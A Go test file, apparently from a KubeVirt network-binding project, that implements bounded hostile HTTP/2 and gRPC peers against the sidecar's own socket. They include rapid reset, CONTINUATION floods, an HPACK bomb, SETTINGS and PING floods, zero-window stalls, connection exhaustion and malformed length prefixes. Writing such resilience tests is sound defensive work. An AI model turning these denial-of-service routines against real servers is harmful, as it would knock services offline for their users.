package hostile

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/protoadapt"
	hooksv1alpha3 "kubevirt.io/kubevirt/pkg/hooks/v1alpha3"

	"github.com/sriov-udn-binding/sriov-udn-binding/test/internal/h2peer"
)

// The methods the attacks call: KubeVirt's hook protos (pkg/hooks/v1alpha3/api_v1alpha3.proto).
const (
	methodPre    = "/kubevirt.hooks.v1alpha3.Callbacks/PreCloudInitIso"
	methodDefine = "/kubevirt.hooks.v1alpha3.Callbacks/OnDefineDomain"
)

// MaxRequestBytes is the sidecar's receive limit (pkg/hooks MaxRequestBytes, 27.1 MiB: two 1 MiB Secrets,
// every byte escaped to six, sent twice, and the VMI), written here so that the attacks do not depend on the
// code they attack; pkg/hooks' own test pins the same value.
const MaxRequestBytes = 24<<20 + 3<<20 + 64<<10

// Hold is how long an attack that holds something (connections, streams, a window) keeps it before it lets go.
const Hold = 2 * time.Second

const frameMax = h2peer.FrameMax

// Attack is one category of hostile peer. Run attacks the sidecar's socket, bounded in bytes and in time
// (ctx), and returns what the server did; it returns once it let go of everything it opened.
type Attack struct {
	Name string
	Run  func(ctx context.Context, socket string) (string, error)
}

// Attacks are the hostile-peer categories, each bounded: rapid reset; CONTINUATION floods, with data and empty;
// an HPACK bomb; a 15 MiB header list; SETTINGS and PING floods; a zero window with calls held; 20,000 streams
// on one connection; 1,000 idle and 500 silent connections; 200 never-completed 2 MiB messages; a DATA frame
// over the frame size; data past the gRPC length prefix; 8 MiB ignoring flow control; a 4 GiB prefix; a
// prefix near the limit, held.
func Attacks() []Attack {
	return []Attack{
		{"rapid reset: 20,000 streams opened and reset", rapidReset},
		{"CONTINUATION flood with data: 32 MiB of header block, never ended", continuationFlood(true)},
		{"CONTINUATION flood, empty: 200,000 empty frames", continuationFlood(false)},
		{"HPACK bomb: a 4 KiB table entry referenced 100,000 times, 10 streams", hpackBomb},
		{"header list of 15 MiB", hugeHeaderList},
		{"SETTINGS flood: 100,000 frames", settingsFlood},
		{"PING flood: 100,000 frames", pingFlood},
		{"zero window: 4 MiB answers held, 3 calls on each of 4 connections", zeroWindow},
		{"20,000 streams on one connection", manyStreams},
		{"1,000 idle connections", idleConnections(1000, false)},
		{"500 silent connections", idleConnections(500, true)},
		{"200 never-completed messages of 2 MiB", neverCompleted},
		{"a DATA frame of 32 KiB, over the frame size", oversizedFrame},
		{"data past the gRPC length prefix", pastThePrefix},
		{"8 MiB ignoring flow control", ignoreFlowControl},
		{"a 4 GiB length prefix", hugePrefix},
		{"a prefix near the receive limit, held", nearLimitHeld},
	}
}

// hold waits Hold or until ctx ends.
func hold(ctx context.Context) {
	select {
	case <-ctx.Done():
	case <-time.After(Hold):
	}
}

// verdict says what the server did to p by now (closed it, and how; or kept it).
func verdict(p *h2peer.Peer) string {
	if closed, how := p.Closed(); closed {
		return "closed the connection: " + how
	}
	if g := p.GoAway(); g != nil {
		return "GOAWAY " + g.ErrCode.String()
	}
	return "kept the connection"
}

// ended returns err unless it only says that the server closed the connection under the attack, in which
// case it waits for the reader to see that close and says how it came.
func ended(p *h2peer.Peer, err error) (string, error) {
	if err != nil && !h2peer.IsClosedErr(err) {
		return "", err
	}
	if err != nil {
		_, _ = p.WaitClosed(time.Second)
	}
	return verdict(p), nil
}

func rapidReset(ctx context.Context, socket string) (string, error) {
	p, err := h2peer.Dial(ctx, socket, h2peer.Options{})
	if err != nil {
		return "", err
	}
	defer p.Close()
	for i := range 20000 {
		id := uint32(2*i + 1)
		if err := p.Call(id, methodPre); err != nil {
			return ended(p, err)
		}
		if err := p.Frame(func(fr *http2.Framer) error { return fr.WriteRSTStream(id, http2.ErrCodeCancel) }); err != nil {
			return ended(p, err)
		}
		if ctx.Err() != nil {
			break
		}
	}
	return verdict(p), nil
}

// continuationFlood opens a header block and never ends it: 32 MiB of one literal field's bytes, or 200,000
// empty CONTINUATION frames.
func continuationFlood(withData bool) func(context.Context, string) (string, error) {
	return func(ctx context.Context, socket string) (string, error) {
		p, err := h2peer.Dial(ctx, socket, h2peer.Options{})
		if err != nil {
			return "", err
		}
		defer p.Close()
		err = p.Frame(func(fr *http2.Framer) error {
			return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.HeaderBlock(methodPre)})
		})
		if err != nil {
			return ended(p, err)
		}
		var chunk []byte
		frames := 200000
		if withData {
			// A literal field without indexing, new name "x-flood", its value announced as 32 MiB.
			var lit bytes.Buffer
			lit.WriteByte(0)
			lit.WriteByte(byte(len("x-flood")))
			lit.WriteString("x-flood")
			lit.Write(hpackInt(32<<20, 7, 0))
			if err := p.Frame(func(fr *http2.Framer) error { return fr.WriteContinuation(1, false, lit.Bytes()) }); err != nil {
				return ended(p, err)
			}
			chunk = bytes.Repeat([]byte("a"), frameMax)
			frames = 32 << 20 / frameMax
		}
		for range frames {
			if err := p.Frame(func(fr *http2.Framer) error { return fr.WriteContinuation(1, false, chunk) }); err != nil {
				return ended(p, err)
			}
			if ctx.Err() != nil {
				break
			}
		}
		hold(ctx)
		return verdict(p), nil
	}
}

// hpackInt is HPACK's integer encoding of v with an n-bit prefix (RFC 7541 5.1), first byte flags or'ed in.
func hpackInt(v uint64, n uint, flags byte) []byte {
	limit := uint64(1)<<n - 1
	if v < limit {
		return []byte{flags | byte(v)}
	}
	out := []byte{flags | byte(limit)}
	v -= limit
	for v >= 128 {
		out = append(out, byte(v%128+128))
		v /= 128
	}
	return append(out, byte(v))
}

// writeBlock writes a header block on stream id as HEADERS and CONTINUATION frames, ended.
func writeBlock(fr *http2.Framer, id uint32, block []byte, endStream bool) error {
	first := block[:min(len(block), frameMax)]
	block = block[len(first):]
	if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndStream: endStream, EndHeaders: len(block) == 0}); err != nil {
		return err
	}
	for len(block) > 0 {
		n := min(len(block), frameMax)
		if err := fr.WriteContinuation(id, n == len(block), block[:n]); err != nil {
			return err
		}
		block = block[n:]
	}
	return nil
}

func hpackBomb(ctx context.Context, socket string) (string, error) {
	p, err := h2peer.Dial(ctx, socket, h2peer.Options{})
	if err != nil {
		return "", err
	}
	defer p.Close()
	for s := range 10 {
		block := p.HeaderBlock(methodPre)
		// Literal with incremental indexing, new name: "x-b" = 4,000 bytes, entering the dynamic table
		// (4,035 of its 4,096 bytes) at index 62; then 100,000 indexed references to it (one byte each),
		// 400 MB once decoded.
		var b bytes.Buffer
		b.Write(block)
		b.WriteByte(0x40)
		b.WriteByte(3)
		b.WriteString("x-b")
		b.Write(hpackInt(4000, 7, 0))
		b.Write(bytes.Repeat([]byte("a"), 4000))
		b.Write(bytes.Repeat([]byte{0x80 | 62}, 100000))
		if err := p.Frame(func(fr *http2.Framer) error { return writeBlock(fr, uint32(2*s+1), b.Bytes(), true) }); err != nil {
			return ended(p, err)
		}
		if ctx.Err() != nil {
			break
		}
	}
	hold(ctx)
	return verdict(p), nil
}

func hugeHeaderList(ctx context.Context, socket string) (string, error) {
	p, err := h2peer.Dial(ctx, socket, h2peer.Options{})
	if err != nil {
		return "", err
	}
	defer p.Close()
	var b bytes.Buffer
	b.Write(p.HeaderBlock(methodPre))
	b.WriteByte(0x10) // literal never indexed, new name
	b.WriteByte(5)
	b.WriteString("x-big")
	b.Write(hpackInt(15<<20, 7, 0))
	b.Write(bytes.Repeat([]byte("a"), 15<<20))
	if err := p.Frame(func(fr *http2.Framer) error { return writeBlock(fr, 1, b.Bytes(), true) }); err != nil {
		return ended(p, err)
	}
	hold(ctx)
	return verdict(p), nil
}

func settingsFlood(ctx context.Context, socket string) (string, error) {
	p, err := h2peer.Dial(ctx, socket, h2peer.Options{})
	if err != nil {
		return "", err
	}
	defer p.Close()
	for range 100000 {
		if err := p.Frame(func(fr *http2.Framer) error {
			return fr.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: frameMax})
		}); err != nil {
			return ended(p, err)
		}
		if ctx.Err() != nil {
			break
		}
	}
	return verdict(p), nil
}

func pingFlood(ctx context.Context, socket string) (string, error) {
	p, err := h2peer.Dial(ctx, socket, h2peer.Options{})
	if err != nil {
		return "", err
	}
	defer p.Close()
	for i := range 100000 {
		data := [8]byte{byte(i), byte(i >> 8), byte(i >> 16)}
		if err := p.Frame(func(fr *http2.Framer) error { return fr.WritePing(false, data) }); err != nil {
			return ended(p, err)
		}
		if ctx.Err() != nil {
			break
		}
	}
	if _, err := p.WaitClosed(Hold); err != nil {
		return verdict(p), nil
	}
	return verdict(p), nil
}

// message is a gRPC message: its prefix and m encoded with the protobuf library.
func message(m protoadapt.MessageV1) ([]byte, error) {
	b, err := proto.Marshal(protoadapt.MessageV2Of(m))
	if err != nil {
		return nil, fmt.Errorf("marshal %T: %w", m, err)
	}
	return append(h2peer.Prefix(uint32(len(b))), b...), nil
}

// zeroWindow opens connections that announce a window of 0 for every stream and, one call at a time (so
// that the server's budget never refuses one for another in flight), sends on each within the server's own
// windows 3 OnDefineDomain calls whose answers (the domain echoed: a VMI with none of the binding's
// interfaces) are nearly 4 MiB, the most virt-launcher receives. It never opens its window, so every answer
// the server makes stays queued in it. A call the server refuses is tried again on a new stream, up to 3 times.
func zeroWindow(ctx context.Context, socket string) (string, error) {
	msg, err := message(&hooksv1alpha3.OnDefineDomainParams{
		DomainXML: []byte("<domain type='kvm'><name>x</name><metadata>" + strings.Repeat("<p/>", (4<<20-64<<10)/4) + "</metadata></domain>"),
		Vmi:       []byte("{}"),
	})
	if err != nil {
		return "", err
	}
	const conns, calls = 4, 3
	var peers []*h2peer.Peer
	defer func() {
		for _, p := range peers {
			p.Close()
		}
	}()
	sent, refused := 0, 0
	deadline := time.Now().Add(3 * Hold)
	for range conns {
		dctx, cancel := context.WithTimeout(ctx, Hold)
		p, err := h2peer.Dial(dctx, socket, h2peer.Options{Settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}})
		cancel()
		if err != nil {
			continue // past the server's connection cap: the dial waits in the backlog
		}
		peers = append(peers, p)
		id := uint32(1)
		for c := 0; c < calls && time.Now().Before(deadline); c++ {
			for try := 0; try < 3; try, id = try+1, id+2 {
				if err := p.Call(id, methodDefine); err != nil {
					break
				}
				sctx, cancel := context.WithDeadline(ctx, deadline)
				err := p.SendInWindow(sctx, id, msg, true)
				cancel()
				if err == nil {
					sent++
					id += 2
					break
				}
				refused++
			}
		}
	}
	hold(ctx)
	return fmt.Sprintf("%d calls sent whole on %d connections, %d refused", sent, len(peers), refused), nil
}

// onConnections opens n connections and runs each through attack at once; it holds them, then closes them.
func onConnections(ctx context.Context, socket string, n int, o h2peer.Options, attack func(*h2peer.Peer) error) (string, error) {
	peers := make([]*h2peer.Peer, 0, n)
	defer func() {
		for _, p := range peers {
			p.Close()
		}
	}()
	for range n {
		p, err := h2peer.Dial(ctx, socket, o)
		if err != nil {
			return "", err
		}
		peers = append(peers, p)
	}
	// Connections past the server's cap wait in the listen backlog: their writes block until the server
	// accepts them, so each runs in its own goroutine and the hold ends them.
	var wg sync.WaitGroup
	errs := make(chan error, n)
	for _, p := range peers {
		wg.Go(func() {
			if err := attack(p); err != nil && !h2peer.IsClosedErr(err) {
				errs <- err
			}
		})
	}
	hold(ctx)
	closed := 0
	for _, p := range peers {
		if c, _ := p.Closed(); c {
			closed++
		}
		p.Hangup()
	}
	wg.Wait()
	close(errs)
	if err := errors.Join(collect(errs)...); err != nil {
		return "", err
	}
	return fmt.Sprintf("closed %d of %d connections during the hold", closed, n), nil
}

func collect(errs <-chan error) []error {
	var out []error
	for err := range errs {
		out = append(out, err)
	}
	return out
}

func manyStreams(ctx context.Context, socket string) (string, error) {
	p, err := h2peer.Dial(ctx, socket, h2peer.Options{})
	if err != nil {
		return "", err
	}
	defer p.Close()
	for i := range 20000 {
		if err := p.Call(uint32(2*i+1), methodPre); err != nil {
			return ended(p, err)
		}
		if ctx.Err() != nil {
			break
		}
	}
	hold(ctx)
	return verdict(p), nil
}

func idleConnections(n int, silent bool) func(context.Context, string) (string, error) {
	return func(ctx context.Context, socket string) (string, error) {
		return onConnections(ctx, socket, n, h2peer.Options{NoPreface: silent}, func(*h2peer.Peer) error { return nil })
	}
}

// neverCompleted sends, on 50 connections of 4 streams, 2 MiB of messages announced as 4 MiB, and never the rest.
func neverCompleted(ctx context.Context, socket string) (string, error) {
	part := append(h2peer.Prefix(4<<20), make([]byte, 2<<20)...)
	return onConnections(ctx, socket, 50, h2peer.Options{}, func(p *h2peer.Peer) error {
		for s := range 4 {
			id := uint32(2*s + 1)
			if err := p.Call(id, methodPre); err != nil {
				return err
			}
			if err := p.Data(id, part, false, frameMax); err != nil {
				return err
			}
		}
		return nil
	})
}

// oneMessage is an attack of one stream: a PreCloudInitIso call on a connection of its own, then msg (a gRPC
// message, whole or not) in DATA frames of frame bytes, END_STREAM with end. It then holds, or with untilClosed
// waits (up to Hold) for the server to close the connection, and says what the server did.
type oneMessage struct {
	msg         []byte
	end         bool
	frame       int
	untilClosed bool
}

func (a oneMessage) run(ctx context.Context, socket string) (string, error) {
	p, err := h2peer.Dial(ctx, socket, h2peer.Options{})
	if err != nil {
		return "", err
	}
	defer p.Close()
	if err := p.Call(1, methodPre); err != nil {
		return ended(p, err)
	}
	if err := p.Data(1, a.msg, a.end, a.frame); err != nil {
		return ended(p, err)
	}
	if a.untilClosed {
		_, _ = p.WaitClosed(Hold)
	} else {
		hold(ctx)
	}
	return verdict(p), nil
}

// oversizedFrame: one DATA frame of 32 KiB, twice what the server's SETTINGS allow.
var oversizedFrame = oneMessage{msg: append(h2peer.Prefix(32<<10-5), make([]byte, 32<<10-5)...), end: true, frame: 32 << 10, untilClosed: true}.run

// pastThePrefix: a message announced as 10 bytes, followed by 1 MiB.
var pastThePrefix = oneMessage{msg: append(h2peer.Prefix(10), make([]byte, 1<<20)...), end: true, frame: frameMax}.run

// ignoreFlowControl: 8 MiB announced and sent at once, past the 1 MiB window the server gave, without waiting
// for its updates.
var ignoreFlowControl = oneMessage{msg: append(h2peer.Prefix(8<<20), make([]byte, 8<<20)...), frame: frameMax}.run

// hugePrefix: a message announced as 4 GiB.
var hugePrefix = oneMessage{msg: append(h2peer.Prefix(0xFFFFFFFF), make([]byte, 64<<10)...), frame: frameMax}.run

// nearLimitHeld: a message announced just under the receive limit, sent but for its last MiB, and held.
var nearLimitHeld = oneMessage{msg: append(h2peer.Prefix(MaxRequestBytes-16), make([]byte, MaxRequestBytes-1<<20)...), frame: frameMax}.run
